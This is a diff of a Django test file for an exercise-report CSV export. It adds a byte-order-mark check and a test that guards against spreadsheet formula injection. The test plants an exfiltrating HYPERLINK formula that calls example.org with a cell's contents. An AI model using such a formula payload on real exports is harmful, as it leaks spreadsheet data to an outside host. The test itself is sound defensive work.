@@ -7,11 +7,13 @@ from pathlib import Path
 
 import jsonschema
 import pytest
+from django.contrib.auth import get_user_model
 from django.core.management import call_command
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
-from wargame.exercises.models import Event, Exercise
+from wargame.exercises.models import Event, Exercise, Role
+from wargame.exercises.services import participant_add
 from wargame.reports.builder import report_data
 from wargame.reports.files import render_format
 from wargame.reports.models import FeedbackResponse, ImprovementItem, Observation
@@ -70,11 +72,25 @@ def test_the_same_exercise_gives_the_same_report_twice(played: Exercise) -> None
 
 @pytest.mark.django_db
 def test_the_csv_has_one_row_per_event_in_words(played: Exercise) -> None:
-    rows = list(csv.reader(io.StringIO(render_format(played, "csv").decode())))
+    rows = list(csv.reader(io.StringIO(render_format(played, "csv").decode("utf-8-sig"))))
     assert rows[0] == ["Time", "Turn", "Actor", "Team", "Event", "Details"]
     assert len(rows) - 1 == Event.objects.filter(exercise=played).count()
     assert {row[4] for row in rows[1:]} >= {"Exercise started", "Move submitted"}
     assert not any("move.submitted" in row or "hadr" in row[5] for row in rows)
+
+
+@pytest.mark.django_db
+def test_the_csv_is_safe_to_open_in_a_spreadsheet(played: Exercise) -> None:
+    """A formula typed as a name or a message is text in the file, shown as typed; the file
+    starts with the byte-order mark that makes Excel show accents."""
+    formula = '=HYPERLINK("http://example.org/?x="&A1,"Open")'
+    user = get_user_model().objects.create_user(formula, first_name=formula)
+    participant_add(actor=user, exercise=played, user=user, role=Role.EVALUATOR)
+    data = render_format(played, "csv")
+    assert data.startswith("\ufeff".encode())
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert any(formula in cell and cell.startswith("'") for cell in cells)
 
 
 @pytest.mark.django_db
@@ -105,4 +121,4 @@ def test_export_report_writes_json_and_csv(played: Exercise, tmp_path: Path) -> 
     jsonschema.validate(json.loads(target.read_text()), SCHEMA)
     out = io.StringIO()
     call_command("export_report", played.code, "--format", "csv", stdout=out)
-    assert out.getvalue().startswith("Time,Turn,Actor,Team,Event,Details\n")
+    assert out.getvalue().startswith("\ufeffTime,Turn,Actor,Team,Event,Details\r\n")
